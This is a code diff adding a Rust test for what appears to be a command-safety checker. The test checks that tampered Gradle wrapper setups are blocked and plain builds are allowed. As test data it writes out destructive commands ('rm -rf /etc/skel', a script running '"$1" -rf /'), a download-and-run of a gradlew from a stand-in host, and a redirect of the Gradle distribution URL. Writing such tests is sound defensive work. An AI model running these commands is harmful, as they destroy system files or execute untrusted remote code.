@@ -195,3 +195,27 @@ fn compose_files_are_read() {
         stopped_in(root.path(), &["docker compose up"]);
     }
 }
+
+#[test]
+fn wrapper_scripts_start_the_build_tool() {
+    let script = "#!/bin/sh\napp=$0\nCLASSPATH=$app/gradle/wrapper/gradle-wrapper.jar\n\
+        if [ -n \"$JAVA_HOME\" ]; then JAVACMD=$JAVA_HOME/bin/java; else JAVACMD=java; fi\n\
+        set -- -classpath \"$CLASSPATH\" \"$@\"\nexec \"$JAVACMD\" \"$@\"\n";
+    let settings = |host: &str| format!("distributionUrl=https\\://{host}/distributions/gradle-8.5-bin.zip\n");
+    let changed = script.replace("set --", "rm -rf /etc/skel; set --");
+    let stopped = |files: &[(&str, &str)], command: &str| stopped_in(project(files).path(), &[command]);
+    let place = "gradle/wrapper/gradle-wrapper.properties";
+    stopped(&[("gradlew", script), (place, &settings("downloads.example.net"))], "./gradlew build");
+    stopped(&[("gradlew", &changed)], "./gradlew build");
+    stopped(&[("gradlew", "#!/bin/sh\n\"$1\" -rf /\n")], "./gradlew rm");
+    let root = project(&[("build.gradle", ""), ("gradlew", script), (place, &settings("services.gradle.org"))]);
+    stopped_in(
+        root.path(),
+        &[
+            "curl -o gradlew https://example.net/gradlew && ./gradlew build",
+            "sed -i s/services/example/ gradle/wrapper/gradle-wrapper.properties && ./gradlew build",
+            "./gradlew -I /tmp/other.gradle build",
+        ],
+    );
+    allowed_in(root.path(), &["./gradlew build", "./gradlew test --info"]);
+}
